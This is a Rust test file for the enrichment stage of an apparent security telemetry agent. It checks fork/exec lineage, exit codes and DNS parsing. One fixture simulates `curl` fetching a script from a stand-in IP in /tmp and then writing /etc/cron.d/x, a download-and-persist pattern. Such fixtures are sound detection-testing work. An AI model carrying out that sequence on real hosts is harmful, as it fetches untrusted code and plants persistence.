//! The enrich stage as data: decoded records in, events out — lineage from
//! fork/exec, payloads, and no invented process for an ownerless packet.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use saker_abi::raw::{self, Header, kind};
use saker_abi::{Body, Record};
use saker_enrich::{EnrichConfig, Enricher};
use saker_model::{Kind, Payload};

fn header(kind: u16, pid: u32, ppid: u32, start_ns: u64) -> Header {
    let mut comm = [0u8; 16];
    comm[..4].copy_from_slice(b"test");
    Header {
        kind,
        pid,
        tid: pid,
        ppid,
        ns_pid: pid,
        proc_start_ns: start_ns,
        ts_ns: start_ns + 1,
        comm,
        ..Default::default()
    }
}

fn enricher() -> (Enricher, tempfile::TempDir) {
    // An empty /proc: nothing seeded, nothing filled lazily.
    let proc_root = tempfile::tempdir().unwrap();
    let cfg = EnrichConfig { proc_root: proc_root.path().into(), hash_executables: false, ..Default::default() };
    (Enricher::new(&cfg).unwrap(), proc_root)
}

#[test]
fn fork_exec_write_exit_carry_lineage() {
    let (mut e, _proc) = enricher();
    let fork = Record {
        header: header(kind::PROCESS_FORK, 100, 1, 1_000),
        body: Body::Fork(raw::Fork { child_pid: 200, child_ns_pid: 200, child_start_ns: 2_000, clone_flags: 0 }),
    };
    let ev = e.enrich(fork, None).unwrap();
    let Payload::Fork(f) = &ev.payload else { panic!() };
    let child_uuid = f.child_uuid;
    assert!(!child_uuid.is_nil());

    let exec = Record {
        header: header(kind::PROCESS_EXEC, 200, 100, 2_000),
        body: Body::Exec {
            raw: raw::Exec::default(),
            filename: b"/usr/bin/curl".to_vec(),
            exe: b"/usr/bin/curl".to_vec(),
            interp: Vec::new(),
            argv: b"curl\0http://198.51.100.7/x.sh\0".to_vec(),
            cwd: b"/tmp".to_vec(),
            ld_preload: Vec::new(),
            ld_library_path: Vec::new(),
            ecs_metadata_uri: Vec::new(),
        },
    };
    let ev = e.enrich(exec, None).unwrap();
    assert_eq!(ev.kind, Kind::ProcessExec);
    let p = ev.process.as_ref().unwrap();
    assert_eq!(p.uuid, child_uuid, "the exec'd process keeps the uuid its fork gave it");
    assert_eq!(p.argv[..], ["curl", "http://198.51.100.7/x.sh"]);
    assert_eq!(ev.lineage[0].pid, 100);
    assert_eq!(p.parent_uuid, Some(ev.lineage[0].uuid));

    let write = Record {
        header: header(kind::FILE_WRITE, 200, 100, 2_000),
        body: Body::File {
            raw: raw::File { flags: 0o1101, ..Default::default() },
            path: b"/etc/cron.d/x".to_vec(),
            path2: Vec::new(),
        },
    };
    let ev = e.enrich(write, None).unwrap();
    assert_eq!(ev.kind, Kind::FileWrite);
    assert_eq!(ev.file().unwrap().path, "/etc/cron.d/x");
    assert_eq!(ev.process.as_ref().unwrap().executable.as_deref(), Some("/usr/bin/curl"));

    let exit = Record {
        header: header(kind::PROCESS_EXIT, 200, 100, 2_000),
        body: Body::Exit(raw::Exit { exit_code: 3 << 8, _pad: 0 }),
    };
    let ev = e.enrich(exit, None).unwrap();
    let Payload::Exit(x) = &ev.payload else { panic!() };
    assert_eq!(x.exit_code, 3);
    assert_eq!(ev.result, None, "exit has no syscall result");
}

#[test]
fn ownerless_dns_packet_has_no_process_and_garbage_is_counted() {
    let (mut e, _proc) = enricher();
    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 3, b'w', b'w', b'w', 0, 0, 1, 0, 1];
    let mut dns = raw::Dns { family: 2, protocol: 17, rport: 53, lport: 40000, ..Default::default() };
    dns.raddr[..4].copy_from_slice(&[127, 0, 0, 53]);
    let rec = Record { header: header(kind::DNS, 0, 0, 0), body: Body::Dns { raw: dns, payload: q.clone() } };
    let ev = e.enrich(rec, None).unwrap();
    assert_eq!(ev.kind, Kind::DnsQuery);
    assert!(ev.process.is_none() && ev.task.is_none() && ev.lineage.is_empty());

    q.truncate(14); // cut inside the question
    let rec = Record { header: header(kind::DNS, 0, 0, 0), body: Body::Dns { raw: dns, payload: q } };
    assert!(e.enrich(rec, None).is_none());
    assert_eq!(e.stats().dns_parse_errors, 1, "a malformed message is counted, not dropped silently");
}
